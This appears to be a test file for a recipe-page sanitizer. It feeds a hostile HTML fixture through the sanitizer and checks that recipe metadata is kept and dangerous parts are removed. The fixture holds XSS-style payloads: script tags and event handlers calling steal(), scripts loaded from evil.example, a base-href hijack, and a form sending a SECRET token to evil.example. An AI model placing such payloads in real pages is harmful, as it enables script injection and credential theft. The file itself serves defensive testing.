import { test } from '@japa/runner'
import { cpuSeconds } from '#tests/helpers/cpu_seconds'
import { showablePage } from './safe_page.js'
import { packPage, showPage, unpackPage } from './source_snapshot.js'

const hostile = `<!doctype html><html lang="en"><head><title>Soup</title>
<meta property="og:title" content="Soup"><link rel="canonical" href="https://soups.example/1">
<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">
<script type="application/ld+json">{"@type":"Recipe","name":"</Soup>"}</script>
<script>steal()</script><script src="https://evil.example/x.js"></script>
<style>body{background:url(https://evil.example/a.png)}</style></head>
<body onload="steal()" style="background:url(https://evil.example/b.png)">
<h1 class="title" itemprop="name">Soup</h1><a href="javascript:steal()">x</a>
<form action="https://evil.example"><input name="token" value="SECRET"><button>go</button></form>
<iframe src="https://evil.example"></iframe><object data="x"></object>
<svg><script>steal()</script></svg><img src="https://pics.example/a.jpg" onerror="steal()">
<img src="data:image/png;base64,AAAA"><p>1 &lt; 2 cups</p></body></html>`

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8')

test.group('Pages that are kept', () => {
  test('what a recipe is read from stays, what runs, asks or knows a visitor goes', async ({
    assert,
  }) => {
    const packed = (await packPage(hostile)) ?? Buffer.alloc(0)
    const kept = text(await unpackPage(packed))
    for (const part of ['ld+json', '"@type":"Recipe"', 'itemprop="name"', 'og:title', 'canonical'])
      assert.include(kept, part)
    const shown = text(await showPage(packed))
    for (const page of [kept, shown]) {
      for (const part of [
        'steal',
        'SECRET',
        '<form',
        '<iframe',
        '<object',
        'onerror',
        'a.css',
        '.js',
      ])
        assert.notInclude(page, part)
      assert.include(page, '1 &lt; 2 cups')
    }
    for (const part of ['<script', '<link', 'https://', 'href'])
      assert.notInclude(shown.slice(shown.indexOf('<body>')), part)
    assert.include(shown, 'data:image/png')
  })

  test('words of a page are marked where they stand, across its tags', async ({ assert }) => {
    const page =
      '<p class="title">First</p><li><b>200 g</b> plain <i>flour</i></li><p>Bake &amp; serve it.</p>'
    const packed = (await packPage(page)) ?? Buffer.alloc(0)
    const marked = async (passage: string) => text(await showPage(packed, passage))
    assert.include(
      await marked('200 g plain flour'),
      '<span id="trivet-passage"></span><mark>200 g</mark></b><mark> plain </mark><i><mark>flour'
    )
    assert.include(await marked('0.2 kg plain flour'), '</b> <span id="trivet-passage">')
    assert.include(await marked('bake & serve it.'), '<mark>Bake &amp; serve it.</mark>')
    for (const absent of ['sugar', '', '(.*', '<b>', 'p', 'title'])
      assert.notInclude(await marked(absent), 'id="trivet-passage"', absent)
  })

  test('a page that says the words of a passage all over is looked through once', async ({
    assert,
  }) => {
    const pages: [page: string, passage: string][] = [
      [`<p>${'aa '.repeat(300_000)}</p>`, 'aa aa aa aa aa aa aa bb'],
      [`<p title="${'aaa '.repeat(200_000)}">x</p>`, 'aaa bbb'],
      [`<p>${('aa' + '&nbsp;'.repeat(12)).repeat(15_000)}</p>`, 'aa aa aa aa aa aa aa bb'],
    ]
    for (const [page, passage] of pages) {
      const seconds = await cpuSeconds(() => showablePage(page, passage))
      assert.isBelow(seconds, 2, `${page.slice(0, 20)}: ${seconds} s`)
    }
  })

  test('a page of ten thousand boxes in one another is kept', async ({ assert }) => {
    const deep = `${'<div>'.repeat(10_000)}soup${'</div>'.repeat(10_000)}`
    assert.isNotNull(await packPage(deep))
  })
})
